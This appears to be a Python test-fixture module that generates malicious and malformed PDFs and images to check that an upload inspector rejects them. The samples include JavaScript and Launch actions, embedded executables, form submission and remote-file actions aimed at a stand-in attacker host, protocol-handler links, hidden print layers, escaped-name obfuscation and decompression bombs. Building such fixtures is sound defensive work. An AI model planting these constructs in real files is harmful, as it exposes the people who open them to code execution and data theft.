"""Bad files of every kind that must not pass, made by code: 150 and more."""

import re
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Permissions, Stream, String
from PIL import Image

from tests.berkas.contoh import gambar, pdf, simpan_pdf

PDF = "application/pdf"


@dataclass(frozen=True)
class Buruk:
    """A bad file, refused with one of `kode`. `inti` are the spellings in it without which it would not be bad."""

    nama: str
    isi: bytes
    kode: frozenset[str]
    jenis: str = PDF
    inti: tuple[bytes, ...] = ()


def js(dokumen: Pdf) -> Dictionary:
    return dokumen.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def spek(dokumen: Pdf) -> Any:
    lampiran = dokumen.make_stream(b"MZ isi lampiran", Type=Name.EmbeddedFile)
    return dokumen.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=lampiran)))


def anotasi(dokumen: Pdf, **isi: Any) -> None:
    baru = dokumen.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 50, 50], **isi))
    dokumen.pages[0].Annots = Array([baru])


def aksi_tautan(nama: str, **isi: Any) -> Callable[[Pdf], None]:
    return lambda d: anotasi(d, Subtype=Name.Link, A=Dictionary(S=Name(f"/{nama}"), **isi))


def _js_bernama(d: Pdf) -> None:
    d.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("mulai"), js(d)]))


def _js_lanjutan(d: Pdf) -> None:
    d.Root.OpenAction = Dictionary(S=Name.GoTo, D=[d.pages[0].obj, Name.Fit], Next=Array([js(d)]))


def _js_isian(d: Pdf) -> None:
    isian = d.make_indirect(
        Dictionary(FT=Name.Tx, T=String("x"), AA=Dictionary(K=js(d)), Subtype=Name.Widget, Rect=[0, 0, 9, 9])
    )
    d.Root.AcroForm = Dictionary(Fields=[isian])


def _js_garis_besar(d: Pdf) -> None:
    judul = d.make_indirect(Dictionary(Title=String("Isi"), A=js(d)))
    d.Root.Outlines = d.make_indirect(Dictionary(First=judul, Last=judul, Count=1))


def _js_tak_terpakai(d: Pdf) -> None:
    d.Root.Simpanan = Array([js(d)])


def _js_dalam(d: Pdf) -> None:
    isi: Any = js(d)
    for _ in range(60):
        isi = Array([Dictionary(Dalam=isi)])
    d.Root.Sarang = isi


def _js_aliran(d: Pdf) -> None:
    d.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=d.make_stream(b"app.alert(1)"))


def _lampiran(d: Pdf) -> None:
    d.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[String("a.exe"), spek(d)]))


def _xfa(d: Pdf) -> None:
    d.Root.AcroForm = Dictionary(Fields=[], XFA=Array([String("template"), d.make_stream(b"<xdp/>")]))


def _aliran_luar(d: Pdf) -> None:
    d.Root.Data = d.make_stream(b"x", F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd")))


def _tautan(alamat: str) -> Callable[[Pdf], None]:
    return aksi_tautan("URI", URI=String(alamat))


def _dasar_alamat(d: Pdf) -> None:
    d.Root.URI = Dictionary(Base=String("file:///C:/rahasia/"))


def _gambar_dari_luar(d: Pdf) -> None:
    lain = Dictionary(F=String("lain.pdf"), Page=0)
    d.pages[0].obj.Cadangan = d.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=lain)


def _matriks_berskrip(d: Pdf) -> None:
    d.pages[0].obj.Cadangan = Dictionary(Type=Name.Font, FontMatrix=[1, 0, 0, 1, 0, String("0); alert(1) //")])


def _lapisan(padam: str) -> Callable[[Pdf], None]:
    """A layer that is printed; `padam`: what keeps it off the screen."""

    def ubah(d: Pdf) -> None:
        guna = Dictionary(Print=Dictionary(PrintState=Name.ON))
        if padam == "ViewState":
            guna.View = Dictionary(ViewState=Name.OFF)
        lapisan = d.make_indirect(Dictionary(Type=Name.OCG, Name=String("rahasia"), Usage=guna))
        asal = Dictionary(OFF=[lapisan]) if padam == "OFF" else Dictionary(BaseState=Name.OFF)
        d.Root.OCProperties = Dictionary(OCGs=[lapisan], D=Dictionary() if padam == "ViewState" else asal)

    return ubah


def _media(subtipe: str, **isi: Any) -> Callable[[Pdf], None]:
    return lambda d: anotasi(d, Subtype=Name(f"/{subtipe}"), **isi)


# kind → (change, code, how the danger is spelt)
BAHAYA: dict[str, tuple[Callable[[Pdf], object], str]] = {
    "js-pembuka": (lambda d: d.Root.__setattr__("OpenAction", js(d)), "SKRIP"),
    "js-bernama": (_js_bernama, "SKRIP"),
    "js-lanjutan": (_js_lanjutan, "SKRIP"),
    "js-isian": (_js_isian, "SKRIP"),
    "js-garis-besar": (_js_garis_besar, "SKRIP"),
    "js-halaman": (lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=js(d))), "SKRIP"),
    "js-tak-terpakai": (_js_tak_terpakai, "SKRIP"),
    "js-dalam": (_js_dalam, "SKRIP"),
    "js-aliran": (_js_aliran, "SKRIP"),
    "js-tautan": (aksi_tautan("JavaScript", JS=String("1")), "SKRIP"),
    "program": (aksi_tautan("Launch", F=String("calc.exe")), "PROGRAM"),
    "program-pembuka": (
        lambda d: d.Root.__setattr__("OpenAction", Dictionary(S=Name.Launch, F=String("a.bat"))),
        "PROGRAM",
    ),
    "lampiran": (_lampiran, "LAMPIRAN"),
    "lampiran-catatan": (lambda d: anotasi(d, Subtype=Name.FileAttachment, FS=spek(d)), "LAMPIRAN"),
    "lampiran-terkait": (lambda d: d.Root.__setattr__("AF", Array([spek(d)])), "LAMPIRAN"),
    "portofolio": (lambda d: d.Root.__setattr__("Collection", Dictionary(View=Name.T)), "LAMPIRAN"),
    "xfa": (_xfa, "XFA"),
    "ke-berkas-lain": (aksi_tautan("GoToR", F=String("\\\\penyerang\\a.pdf")), "AKSI_JARAK_JAUH"),
    "ke-lampiran": (aksi_tautan("GoToE", F=String("a.pdf")), "AKSI_JARAK_JAUH"),
    "kirim-isian": (aksi_tautan("SubmitForm", F=String("http://penyerang.contoh")), "AKSI_JARAK_JAUH"),
    "impor-data": (aksi_tautan("ImportData", F=String("a.fdf")), "AKSI_JARAK_JAUH"),
    "berkas-web": (
        lambda d: d.Root.__setattr__("AF", Array([Dictionary(FS=Name.URL, F=String("http://penyerang.contoh"))])),
        "AKSI_JARAK_JAUH",
    ),
    "aliran-luar": (_aliran_luar, "AKSI_JARAK_JAUH"),
    "uri-otomatis": (
        lambda d: d.Root.__setattr__("OpenAction", Dictionary(S=Name.URI, URI=String("http://penyerang.contoh"))),
        "AKSI_OTOMATIS",
    ),
    "uri-saat-dibuka": (
        lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=Dictionary(S=Name.URI, URI=String("http://x.contoh")))),
        "AKSI_OTOMATIS",
    ),
    "richmedia": (_media("RichMedia", RichMediaContent=Dictionary()), "MULTIMEDIA"),
    "tiga-dimensi": (_media("3D"), "MULTIMEDIA"),
    "film": (_media("Movie", Movie=Dictionary(F=String("a.avi"))), "MULTIMEDIA"),
    "layar": (_media("Screen"), "MULTIMEDIA"),
    "suara": (_media("Sound"), "MULTIMEDIA"),
    "aksi-film": (aksi_tautan("Movie"), "MULTIMEDIA"),
    "aksi-media": (aksi_tautan("Rendition"), "MULTIMEDIA"),
    "utas-berkas-lain": (aksi_tautan("Thread", F=String("lain.pdf"), D=0), "AKSI_JARAK_JAUH"),
    "gambar-dari-luar": (_gambar_dari_luar, "AKSI_JARAK_JAUH"),
    "terkait-di-luar": (
        lambda d: d.Root.__setattr__("AF", Array([Dictionary(Type=Name.Filespec, F=String("a.xml"))])),
        "AKSI_JARAK_JAUH",
    ),
    "tautan-berkas": (_tautan("file:///C:/Windows/calc.exe"), "TAUTAN_BERBAHAYA"),
    "tautan-folder-bersama": (_tautan("\\\\penyerang\\bagi\\a.pdf"), "TAUTAN_BERBAHAYA"),
    "tautan-skrip": (_tautan(" Java\tScript:alert(1)"), "TAUTAN_BERBAHAYA"),
    "tautan-program": (_tautan("ms-word:ofe|u|http://penyerang.contoh/a.docm"), "TAUTAN_BERBAHAYA"),
    "tautan-diska": (_tautan("C:\\rahasia.exe"), "TAUTAN_BERBAHAYA"),
    "alamat-dasar": (_dasar_alamat, "TAUTAN_BERBAHAYA"),
    "matriks-berskrip": (_matriks_berskrip, "SKRIP"),
    "lapisan-padam": (_lapisan("OFF"), "CETAK_TERSEMBUNYI"),
    "lapisan-padam-semua": (_lapisan("BaseState"), "CETAK_TERSEMBUNYI"),
    "lapisan-tak-tampil": (_lapisan("ViewState"), "CETAK_TERSEMBUNYI"),
    "catatan-hanya-cetak": (lambda d: anotasi(d, Subtype=Name.Stamp, F=4 | 32), "CETAK_TERSEMBUNYI"),
}

CARA: dict[str, dict[str, Any]] = {
    "polos": {"object_stream_mode": ObjectStreamMode.disable, "compress_streams": False},
    "padat": {"object_stream_mode": ObjectStreamMode.generate},
    "lurus": {"linearize": True, "object_stream_mode": ObjectStreamMode.generate},
}


NAMA_BAHAYA = re.compile(
    rb"/(?:JavaScript|JS|Launch|EmbeddedFiles?|EF|XFA|GoToR|GoToE|SubmitForm|ImportData|RichMedia\w*|Movie|Rendition|"
    rb"Collection|FileAttachment|3D|Screen|Sound|URL|URI|FS|Thread|Ref|AF|Base|FontMatrix|OCProperties|PrintState|F)\b"
)


def _samar(nama: bytes) -> bytes:
    return b"/" + b"".join(b"#%02x" % huruf for huruf in nama[1:])


def samarkan_nama(isi: bytes) -> bytes:
    """Spell the names of a plain file with escapes and rebuild its cross-reference table."""
    badan = NAMA_BAHAYA.sub(lambda cocok: _samar(cocok[0]), isi.split(b"\nxref\n")[0] + b"\n")
    return susun_ulang(badan, isi)


def susun_ulang(badan: bytes, asal: bytes) -> bytes:
    """Append a fresh cross-reference table to `badan`, with the trailer of `asal`."""
    letak = {int(c[1]): c.start() for c in re.finditer(rb"(?m)^(\d+) 0 obj\b", badan)}
    trailer = asal.rsplit(b"trailer", 1)[1].split(b"startxref")[0].strip()
    tabel = b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % p for p in sorted(letak.items()))
    return badan + tabel + b"trailer " + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(badan)


# A danger with the key it stands under and the byte that ends it, an address or number whole: change it and it is none.
_INTI = re.compile(
    rb"(?=(/URI \((?:[^()\\]|\\.)*\)|/F \d+ |/Filespec >> [^<>]*>>\nstream\n|"
    rb"/(?:OpenAction|AA)[ <]|(?:/(?:S|Subtype|Type|FS) )?%s[\s<>\[(/]))" % NAMA_BAHAYA.pattern.removesuffix(rb"\b")
)


# A layer is a danger by all that is said of it together: where it is listed, by which number, when it shows and prints.
_INTI_LAPISAN = re.compile(rb"\d+ 0 obj\n<< /Name \(rahasia\) [^\n]*|/D << [^\n]*?/OCGs \[ \d+ 0 R \] >>")


def inti_bahaya(isi: bytes) -> tuple[bytes, ...]:
    """Return the spellings in a plain file without which it would not be bad."""
    return tuple({*_INTI.findall(isi), *_INTI_LAPISAN.findall(isi)})


def berbahaya() -> Iterator[Buruk]:
    """Every danger, plain, in object streams, linearised and with escaped names."""
    dasar = pdf(2)
    for nama, (ubah, kode) in BAHAYA.items():
        for cara, pilihan in CARA.items():
            isi = simpan_pdf(dasar, ubah, **pilihan)
            yield Buruk(f"{nama}-{cara}", isi, frozenset({kode}), inti=inti_bahaya(isi))
        polos = simpan_pdf(dasar, ubah, **CARA["polos"])
        inti = tuple(NAMA_BAHAYA.sub(lambda cocok: _samar(cocok[0]), satu) for satu in inti_bahaya(polos))
        yield Buruk(f"{nama}-tersamar", samarkan_nama(polos), frozenset({kode}), inti=inti)


def terkunci() -> Iterator[Buruk]:
    """Files with a password to open, or locked to a certificate."""
    larangan = Permissions(extract=False, print_lowres=False, print_highres=False)
    for versi in (2, 3, 4, 6):
        kunci = Encryption(
            owner="pemilik", user="rahasia", R=versi, allow=larangan, aes=versi >= 4, metadata=versi >= 4
        )
        isi = simpan_pdf(pdf(), lambda _: None, encryption=kunci)
        yield Buruk(f"terkunci-{versi}-rahasia", isi, frozenset({"TERENKRIPSI"}))
    dibatasi = simpan_pdf(pdf(), lambda _: None, encryption=Encryption(owner="pemilik", user="", R=4))
    sertifikat = dibatasi.replace(b"/Filter /Standard", b"/Filter /PubSecur")
    yield Buruk("terkunci-sertifikat", sertifikat, frozenset({"TERENKRIPSI"}))
    for nama in ("js-pembuka", "program", "lampiran"):
        isi = simpan_pdf(pdf(), BAHAYA[nama][0], encryption=Encryption(owner="pemilik", user="", R=6))
        yield Buruk(f"dibatasi-{nama}", isi, frozenset({BAHAYA[nama][1]}))


def dengan_aliran(data: bytes, **kamus: Any) -> bytes:
    """A PDF with one more stream whose stored bytes are `data`."""

    def ubah(dokumen: Pdf) -> None:
        aliran = Stream(dokumen, data)
        for kunci, nilai in kamus.items():
            aliran[f"/{kunci}"] = nilai
        dokumen.pages[0].obj.Cadangan = dokumen.make_indirect(aliran)

    return simpan_pdf(pdf(), ubah, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def bom() -> Iterator[Buruk]:
    """Streams that unpack to far more than they are."""
    besar = frozenset({"ALIRAN_TERLALU_BESAR"})
    nol = bytes(1024 * 1024)
    padat = zlib.compress(nol * 51, 9)
    yield Buruk("bom-flate", dengan_aliran(padat, Filter=Name.FlateDecode), besar)
    lapis = Array([Name.FlateDecode, Name.FlateDecode])
    yield Buruk("bom-flate-dua-lapis", dengan_aliran(zlib.compress(padat), Filter=lapis), besar)
    ganda = Array([Name.ASCIIHexDecode, Name.FlateDecode])
    yield Buruk("bom-heksa-flate", dengan_aliran(padat.hex().encode() + b">", Filter=ganda), besar)
    ulang = b"\x81\x00" * (51 * 8192) + b"\x80"
    yield Buruk("bom-runlength", dengan_aliran(ulang, Filter=Name.RunLengthDecode), besar)
    banyak = Array([Name.FlateDecode] * 12)
    yield Buruk("lapis-banyak", dengan_aliran(zlib.compress(b"x"), Filter=banyak), frozenset({"TERLALU_BERAT"}))


def tanpa_halaman() -> bytes:
    keluar = BytesIO()
    with Pdf.new() as dokumen:
        dokumen.save(keluar)
    return keluar.getvalue()


def rusak() -> Iterator[Buruk]:
    """Damaged in the ways that transfers and disks do it."""
    kode = frozenset({"RUSAK"})
    utuh = pdf(5)
    for persen in (5, 20, 40, 60, 80, 95, 99):
        yield Buruk(f"terpotong-{persen}", utuh[: len(utuh) * persen // 100], kode)
    yield Buruk("hanya-kepala", b"%PDF-1.7\n", kode)
    yield Buruk("kepala-lalu-teks", b"%PDF-1.7\n" + b"bukan PDF " * 100, kode)
    yield Buruk("kepala-lalu-html", b"%PDF-1.4\n<html><script>alert(1)</script></html>", kode)
    yield Buruk("nol-di-tengah", utuh[:2000] + bytes(1000) + utuh[3000:], kode)
    yield Buruk("blok-bergeser", utuh[:1500] + b"x" * 37 + utuh[1500:], kode)
    yield Buruk("baris-baru-diubah", utuh.replace(b"\n", b"\r\n"), kode)
    yield Buruk("tujuh-bit", bytes(b & 0x7F for b in utuh), kode)
    yield Buruk("tanpa-xref", utuh.split(b"\nxref\n")[0], kode)
    yield Buruk("xref-salah", re.sub(rb"startxref\n\d+", b"startxref\n7", utuh), kode)
    yield Buruk("tanpa-katalog", re.sub(rb"/Root \d+ 0 R", b"/Akar 1 0 R", utuh), kode)
    yield Buruk("flate-rusak", dengan_aliran(b"\x78\x9c" + b"rusak" * 50, Filter=Name.FlateDecode), kode)
    yield Buruk("tanpa-halaman", tanpa_halaman(), frozenset({"TANPA_HALAMAN", "RUSAK"}))


def halaman_banyak() -> bytes:
    keluar = BytesIO()
    with Pdf.new() as dokumen:
        for _ in range(2001):
            dokumen.add_blank_page(page_size=(100, 100))
        dokumen.save(keluar)
    return keluar.getvalue()


def gambar_buruk() -> Iterator[Buruk]:
    """Pictures that are cut, wrong or huge."""
    rusak_ = frozenset({"GAMBAR_RUSAK"})
    for format_, jenis in (("JPEG", "image/jpeg"), ("PNG", "image/png")):
        utuh = gambar(format_)
        for persen in (10, 50, 90):
            yield Buruk(f"{format_}-terpotong-{persen}", utuh[: len(utuh) * persen // 100], rusak_, jenis)
        lain = gambar("PNG" if format_ == "JPEG" else "JPEG")
        yield Buruk(f"{format_}-palsu", lain, rusak_, jenis)
    keluar = BytesIO()
    Image.new("1", (10_000, 6_000)).save(keluar, "PNG")
    yield Buruk("PNG-bom", keluar.getvalue(), frozenset({"GAMBAR_TERLALU_BESAR"}), "image/png")


def bersarang(tingkat: int) -> bytes:
    """A page whose only line is drawn by a form within a form, `tingkat` deep."""

    def ubah(d: Pdf) -> None:
        bentuk: dict[str, Any] = {"Type": Name.XObject, "Subtype": Name.Form, "BBox": [0, 0, 200, 200]}
        dalam = d.make_stream(b"0 0 100 100 re f", **bentuk, Resources=Dictionary())
        for _ in range(tingkat):
            dalam = d.make_stream(b"/X Do", **bentuk, Resources=Dictionary(XObject=Dictionary(X=dalam)))
        d.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=dalam))
        d.pages[0].obj.Contents = d.make_stream(b"/X Do")

    return simpan_pdf(pdf(), ubah)


def berkas_buruk() -> Iterator[Buruk]:
    """Yield every bad file that begins as what it claims to be, so that only the inspection can find it."""
    yield from berbahaya()
    yield from terkunci()
    yield from bom()
    yield from rusak()
    yield from gambar_buruk()
    yield Buruk("bersarang-60", bersarang(60), frozenset({"TAK_TERLUKIS"}))
    yield Buruk("halaman-2001", halaman_banyak(), frozenset({"HALAMAN_TERLALU_BANYAK"}))


# What is refused at the door, by its first bytes → what its sentence names.
DI_PINTU: dict[str, tuple[bytes, str]] = {
    "html": (b"<!DOCTYPE html><html><body>Surat</body></html>", "halaman web"),
    "html-bom": (b"\xef\xbb\xbf\r\n<html>", "halaman web"),
    "html-kecil": (b"  <HTML><HEAD>", "halaman web"),
    "docx": (b"PK\x03\x04\x14\x00\x06\x00word/document.xml", "Word"),
    "doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "versi lama"),
    "rtf": (b"{\\rtf1\\ansi Surat}", "RTF"),
    "rar": (b"Rar!\x1a\x07\x00", "RAR"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04", "7-Zip"),
    "gzip": (b"\x1f\x8b\x08\x00", "GZIP"),
    "exe": (b"MZ\x90\x00", "program"),
    "elf": (b"\x7fELF\x02\x01", "program"),
    "jpeg": (gambar("JPEG"), "JPEG"),
    "png": (gambar("PNG"), "PNG"),
    "gif": (b"GIF89a", "GIF"),
    "bmp": (b"BM\x36\x00\x00\x00", "BMP"),
    "tiff": (b"II*\x00\x08\x00\x00\x00", "TIFF"),
    "heic": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "HEIC"),
    "ps": (b"%!PS-Adobe-3.0", "PostScript"),
    "didahului-zip": (b"PK\x03\x04" + bytes(200) + pdf(), "didahului"),
    "didahului-web": (b"\n<html></html>" + pdf(), "halaman web"),
    "teks": (b"Surat pengantar tanpa bentuk", "bukan PDF"),
    "kecil": (b"%PD", "bukan PDF"),
    "huruf-kecil": (b"%pdf-1.4\n", "bukan PDF"),
}
